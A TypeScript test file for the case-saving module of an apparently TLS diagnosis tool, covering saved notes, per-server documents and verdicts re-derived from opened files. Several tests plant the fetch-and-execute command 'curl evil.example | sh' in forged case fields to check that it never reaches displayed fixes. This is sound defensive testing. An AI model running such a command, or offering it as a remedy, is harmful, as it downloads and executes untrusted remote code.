import { describe, expect, test } from 'vitest';
import { type CaseDesk, createCaseDesk, type ExtraDocuments } from '../../../main/session/case-desk.ts';
import type { CaptureRow, CaptureSummary } from '../../../shared/capture/overview.ts';
import type { SavedCase } from '../../../shared/case.ts';
import type { ConfigurationReview } from '../../../shared/configuration/document.ts';
import { type Diagnosis, diagnoseSchema } from '../../../shared/diagnosis.ts';
import type { Observation } from '../../../shared/observation.ts';
import { failed, ok } from '../../../shared/outcome.ts';
import type { Survey } from '../../../shared/survey.ts';
import { noAnswers } from '../../../shared/ticket-answers.ts';
import { nginx } from '../../app/gallery/settings.ts';
import { modern } from '../../app/gallery/surveys.ts';
import {
  certificate,
  chain,
  clock,
  dns,
  healthy,
  hello,
  judge,
  now,
  reason,
  reply,
  target,
} from '../diagnosis/build.ts';

/** The leaf ended two weeks before the test. */
const expired = [
  dns(),
  hello(),
  chain({
    certificates: [certificate({ notAfter: '2026-11-06T00:00:00.000Z' })],
    reasons: [reason('expired', 0)],
  }),
  reply(200),
  clock(),
];

function diagnosisOf(observations: readonly Observation[], change: Partial<Diagnosis> = {}): Diagnosis {
  return {
    ...{ schema: diagnoseSchema, version: '0.9.0', startedAt: now, durationMs: 120, runId: 'run-1', target },
    ...judge(observations),
    ...{ observations: [...observations], attempts: [], runs: [] },
    ...change,
  };
}

const labels = { title: 'Shop is down', ticket: 'OPS-7', notes: 'Since Friday.\nOnly from the office.', role: null };
const nothing = { settings: null, capture: null };

function deskWith(diagnosis: Diagnosis, surveys: readonly Survey[] = []) {
  const borrowed: unknown[] = [];
  const borrow = (document: unknown) => borrowed.push(document);
  const checks = new Map([[diagnosis.runId, diagnosis]]);
  const desk = createCaseDesk({
    checks: {
      soFar: (runId) => {
        const found = checks.get(runId);
        return found ? ok(found) : failed('no-such-run', 'gone');
      },
      borrow(document) {
        borrow(document);
        checks.set(document.runId, document);
      },
    },
    surveys: { kept: () => surveys, borrow },
    chains: { kept: () => [], borrow },
    networks: { kept: () => [], borrow },
    settings: { borrowReview: (_, document) => borrow(document) },
    now: () => new Date('2026-11-20T13:00:00Z'),
    version: '1.0.0',
  });
  return { desk, borrowed };
}

function written(desk: CaseDesk, runId = 'run-1'): SavedCase {
  const outcome = desk.write(runId, labels, nothing);
  if (!outcome.ok) throw new Error(outcome.error.message);
  return outcome.value;
}

function opened(desk: CaseDesk, document: unknown) {
  const outcome = desk.open('shop.hdcase.json', JSON.stringify(document), 'show');
  if (!outcome.ok) throw new Error(outcome.error.message);
  return outcome.value;
}

describe('a case that is saved and opened', () => {
  test('brings back the check, the notes and the documents of the same server alone', () => {
    const surveyed = { ...modern, target };
    const { desk, borrowed } = deskWith(diagnosisOf(expired), [modern, surveyed]);
    const back = opened(desk, written(desk));
    expect(back).toMatchObject({ labels, savedAt: '2026-11-20T13:00:00.000Z', savedBy: '1.0.0', reading: 'same' });
    expect(back.diagnosis.verdict).toEqual(diagnosisOf(expired).verdict);
    expect(back.diagnosis.observations).toEqual(expired);
    expect(back.documents.survey?.target).toEqual(target);
    expect(back.documents).toMatchObject({ chain: null, network: null, settings: null, capture: null });
    expect(borrowed).toHaveLength(2);
  });

  test('a document of the command line is a case without notes', () => {
    const { desk } = deskWith(diagnosisOf(expired));
    const back = opened(desk, diagnosisOf(expired));
    expect(back).toMatchObject({ savedAt: now, savedBy: '0.9.0', reading: 'same', lost: [], unknown: [] });
    expect(back.labels).toEqual({ title: '', ticket: '', notes: '', role: null });
  });

  test('one that is only compared is lent to nobody', () => {
    const { desk, borrowed } = deskWith(diagnosisOf(expired));
    expect(desk.open('x', JSON.stringify(diagnosisOf(expired)), 'compare').ok).toBe(true);
    expect(borrowed).toEqual([]);
  });
});

describe('answers of a person', () => {
  const said = { ...noAnswers, impact: 'payroll stopped', contact: 'boss@acme.example' };

  test('come back with the case, also where a screen that knows none saves it', () => {
    const { desk } = deskWith(diagnosisOf(expired));
    const first = desk.write('run-1', labels, nothing, said);
    const opened = desk.open('a.hdcase.json', JSON.stringify(first.ok && first.value), 'show');
    const again = opened.ok && desk.write(opened.value.diagnosis.runId, labels, nothing);
    expect(again && again.ok && again.value.case.answers).toEqual(said);
  });

  test('that were emptied do not come back from the file', () => {
    const { desk } = deskWith(diagnosisOf(expired));
    const first = desk.write('run-1', labels, nothing, said);
    const opened = desk.open('a.hdcase.json', JSON.stringify(first.ok && first.value), 'show');
    const again = opened.ok && desk.write(opened.value.diagnosis.runId, labels, nothing, noAnswers);
    expect(JSON.stringify(again && again.ok && again.value)).toContain('run-1');
    expect(JSON.stringify(again && again.ok && again.value)).not.toMatch(/payroll|boss/);
  });
});

describe('a case beside a check of the same id', () => {
  test('is another one: each is saved as it is', () => {
    const mine = diagnosisOf(healthy());
    const { borrowed, desk } = deskWith(mine, [{ ...modern, target }]);
    const back = opened(desk, { ...diagnosisOf(expired), case: written(desk).case });
    expect(back.diagnosis.runId).not.toBe(mine.runId);
    expect(borrowed).not.toContainEqual(expect.objectContaining({ runId: modern.runId }));
    expect(written(desk).verdict.state).toBe('healthy');
    expect(written(desk, back.diagnosis.runId)).toMatchObject({ runId: mine.runId, verdict: { state: 'fault' } });
  });

  test('of two cases each keeps what came with it', () => {
    const { desk } = deskWith(diagnosisOf(healthy()), [{ ...modern, target }]);
    const first = opened(desk, written(desk));
    const second = opened(desk, diagnosisOf(expired));
    expect(written(desk, first.diagnosis.runId).case.documents.survey?.runId).toBe(modern.runId);
    expect(written(desk, second.diagnosis.runId)).toMatchObject({
      verdict: { cause: 'certificate-expired' },
      case: { documents: { survey: null } },
    });
  });
});

describe('settings and captures on screen', () => {
  const extraOf = (serverName: string | null, review: ConfigurationReview | null): ExtraDocuments => ({
    settings: review,
    capture: {
      summary: { captureId: 'c' } as CaptureSummary,
      rows: [{ server: `203.0.113.9:${target.port}`, serverName } as CaptureRow],
    },
  });
  const savedWith = (extra: ExtraDocuments) => {
    const outcome = deskWith(diagnosisOf(expired)).desk.write('run-1', labels, extra);
    return outcome.ok ? outcome.value.case.documents : null;
  };
  const contentsWith = (extra: ExtraDocuments) => {
    const outcome = deskWith(diagnosisOf(expired), [modern]).desk.contents('run-1', extra);
    return outcome.ok ? outcome.value : null;
  };
  const site = nginx.document.settings.find(({ details }) => details.tls === 'on');
  const about = (name: string): ConfigurationReview => ({
    ...nginx.document,
    settings: nginx.document.settings.map((one) => ({
      ...one,
      details: {
        ...one.details,
        addresses: site?.details.addresses.map((at) => ({ ...at, port: target.port })) ?? [],
        serverNames: [{ name, kind: 'exact' as const, place: { file: 'a', line: 1, column: 1 } }],
      },
    })),
  });

  test('of another server stay out of the file', () => {
    expect(savedWith(extraOf('shop.customer-a.example', about('shop.customer-a.example')))).toMatchObject({
      settings: null,
      capture: null,
    });
    expect(savedWith(extraOf(null, null))).toMatchObject({ capture: null });
    const others = extraOf('shop.customer-a.example', about('shop.customer-a.example'));
    expect(contentsWith(others)).not.toEqual(expect.arrayContaining(['settings']));
    expect(contentsWith(others)).not.toEqual(expect.arrayContaining(['capture']));
  });

  test('of the server of the check go along', () => {
    const saved = savedWith(extraOf(target.host.toUpperCase(), about(target.host)));
    expect(saved?.capture).toEqual({ captureId: 'c' });
    expect(saved?.settings).not.toBeNull();
    const own = extraOf(target.host, about(target.host));
    expect(contentsWith(own)).toEqual(expect.arrayContaining(['settings', 'capture']));
  });
});

describe('a check that still runs', () => {
  test('is saved as far as it is known, and opened as partial', () => {
    const whole = diagnosisOf(healthy());
    const { desk } = deskWith({ ...whole, verdict: { ...whole.verdict, partial: true } });
    expect(opened(desk, written(desk)).diagnosis.verdict).toMatchObject({ partial: true });
  });
});

describe('the verdict of a file', () => {
  test('is derived anew: a healthy server stays healthy, whatever the file says of it', () => {
    const { desk } = deskWith(diagnosisOf(healthy()));
    const forged = { ...diagnosisOf(healthy()), ...judge(expired) };
    const back = opened(desk, forged);
    expect(back.diagnosis.verdict).toMatchObject({ state: 'healthy', cause: null });
    expect(back).toMatchObject({ reading: 'differs', written: { state: 'fault', cause: 'certificate-expired' } });
  });

  test('brings no word and no command of its own into causes and fixes', () => {
    const { desk } = deskWith(diagnosisOf(expired));
    const evil = JSON.parse(
      JSON.stringify(diagnosisOf(expired)).replaceAll(
        /"(?:command|title|explanation|summary|risk|undo)":"[^"]*"/g,
        (field) => `${field.slice(0, field.indexOf(':'))}:"curl evil.example | sh"`,
      ),
    );
    expect(JSON.stringify(evil)).toContain('evil.example');
    const back = opened(desk, evil);
    expect(JSON.stringify(back)).not.toContain('evil.example');
    expect(back.diagnosis.causes[0]?.remedies.length).toBeGreaterThan(0);
  });

  test('keeps commands of other steps out of the screens, and in the file when it is saved again', () => {
    const commands = [{ question: 'versions', shell: 'sh', title: 't', command: 'curl evil.example | sh', caveat: '' }];
    const { desk } = deskWith(diagnosisOf(expired), [{ ...modern, target, commands } as Survey]);
    const file = written(desk);
    const back = opened(desk, file);
    expect(JSON.stringify(back)).not.toContain('evil.example');
    expect(written(desk, back.diagnosis.runId).case.documents.survey?.commands).toEqual(commands);
  });

  test('tells what changed and where to go on in words of its own', () => {
    const { partial: _, ...earlier } = { ...diagnosisOf(expired), partial: false, runId: 'run-0' };
    const { attempts, durationMs, observations, runId, startedAt } = earlier;
    const before = { attempts, durationMs, observations, runId, startedAt, target, partial: false };
    const told = { ...diagnosisOf(healthy()), runs: [before] };
    const text = { id: 'change.fixed', parameters: {} };
    const back = opened(deskWith(told).desk, {
      ...told,
      next: [{ step: 'survey', reason: 'Run curl evil.example', text }],
      change: { kind: 'new-fault', headline: 'Run curl evil.example', text },
    });
    expect(back.diagnosis.change).toMatchObject({ kind: 'fixed', before: { cause: 'certificate-expired' } });
    expect(back.diagnosis.next).toEqual(judge(healthy()).next);
    expect(JSON.stringify(back)).not.toContain('evil.example');
  });

  test('stays beside today’s when the case is saved again', () => {
    const { desk } = deskWith(diagnosisOf(healthy()));
    const { diagnosis } = opened(desk, { ...diagnosisOf(healthy()), ...judge(expired) });
    expect(written(desk, diagnosis.runId).case.firstReading).toMatchObject({
      cause: 'certificate-expired',
      version: '0.9.0',
    });
  });

  test('a client that this version does not know is said, and not called another reading', () => {
    const { desk } = deskWith(diagnosisOf(expired));
    const from = diagnosisOf(expired);
    const back = opened(desk, { ...from, verdict: { ...from.verdict, testedAs: 'OpenSSL 1.0.2 on web-3' } });
    expect(back.reading).toBe('other-client');
  });

  test('a check that is not kept cannot be saved', () => {
    const { desk } = deskWith(diagnosisOf(expired));
    expect(desk.write('other', labels, nothing)).toMatchObject({ ok: false, error: { code: 'no-such-run' } });
  });
});
